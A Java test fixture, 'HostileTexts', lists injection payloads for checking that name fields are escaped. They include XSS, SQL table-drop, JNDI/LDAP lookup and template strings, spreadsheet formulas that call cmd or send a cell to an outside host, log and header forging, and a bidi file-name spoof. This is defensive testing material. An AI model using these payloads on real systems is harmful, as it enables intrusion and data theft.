package org.ruascope.testing;

import java.util.List;

/** What strangers write where a name should stand. */
public final class HostileTexts {

  /** Each is well-formed XML text once its markup is escaped, and most are lines of harm. */
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "'; DROP TABLE reports; --\" ${jndi:ldap://192.0.2.1/x} {{7*7}} %n%s",
          "=HYPERLINK(\"http://192.0.2.1/\"&A1,\"x\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1+1)",
          "\uff1d1+1",
          "a\nERROR forged line",
          "a\r\n\r\nforged: header",
          "\u009b31mred\u0085next line",
          "a\u202egnp.exe\u2066\u2069\u200f",
          "\u2028\u2029\ufeff\u200b",
          "x".repeat(99) + "\ud83d\ude00".repeat(5_000),
          "x".repeat(10_000));

  private HostileTexts() {}
}
